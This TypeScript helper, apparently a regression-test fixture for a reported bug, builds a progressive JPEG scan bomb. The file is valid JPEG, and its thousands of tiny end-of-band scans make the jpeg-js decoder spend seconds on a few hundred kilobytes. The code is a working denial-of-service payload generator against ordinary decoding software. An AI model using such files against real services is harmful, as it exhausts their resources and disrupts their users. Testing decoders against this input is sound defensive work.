/**
 * A progressive JPEG made to be slow to decode: one grey frame of `side`×`side` and then `scans` AC scans
 * that each carry only a 15-bit end-of-band run (an EOBRUN of 32,767 blocks, about 13 bytes a scan), so
 * each costs the decoder a pass over every block while costing the sender nothing. The attack of issue 22:
 * ~21,700 such scans in 258 KB held jpeg-js for 12.8 s. Every byte is valid JPEG; jpeg-js decodes it.
 */
function segment(marker: number, body: number[]): number[] {
  const length = body.length + 2;
  return [0xff, marker, length >> 8, length & 0xff, ...body];
}

/** A Huffman table (class 0 DC, 1 AC; id 0) with the given symbols, one code of each length from 1 up. */
function huffmanTable(tableClass: 0 | 1, symbols: number[]): number[] {
  const counts = new Array<number>(16).fill(0);
  symbols.forEach((_, index) => (counts[Math.min(index, 15)] = (counts[Math.min(index, 15)] ?? 0) + 1));
  return segment(0xc4, [(tableClass << 4) | 0, ...counts, ...symbols]);
}

export function scanBombJpeg(scans: number, side = 1280): Buffer {
  const blocks = Math.ceil(side / 8) ** 2;
  const bytes: number[] = [0xff, 0xd8];
  bytes.push(...segment(0xdb, [0x00, ...new Array<number>(64).fill(1)]));
  bytes.push(...segment(0xc2, [8, side >> 8, side & 0xff, side >> 8, side & 0xff, 1, 1, 0x11, 0]));
  // DC: code "0" is category 0 (no change); AC: code "0" is EOB14, a run of 2^14 + 14 more bits of blocks.
  bytes.push(...huffmanTable(0, [0x00, 0x01]));
  bytes.push(...huffmanTable(1, [0xe0, 0x00]));
  // The DC scan: one "0" bit a block, padded with ones.
  bytes.push(...segment(0xda, [1, 1, 0x00, 0, 0, 0]));
  const dcBits = new Array<number>(Math.ceil(blocks / 8)).fill(0);
  if (blocks % 8) dcBits[dcBits.length - 1] = 0xff >> (blocks % 8);
  bytes.push(...dcBits);
  for (let scan = 0; scan < scans; scan += 1) {
    bytes.push(...segment(0xda, [1, 1, 0x00, 1, 63, 0]));
    // "0" then fourteen 1 bits, then one padding 1: 0x7F 0xFF, the 0xFF stuffed with 0x00.
    bytes.push(0x7f, 0xff, 0x00);
  }
  bytes.push(0xff, 0xd9);
  return Buffer.from(bytes);
}
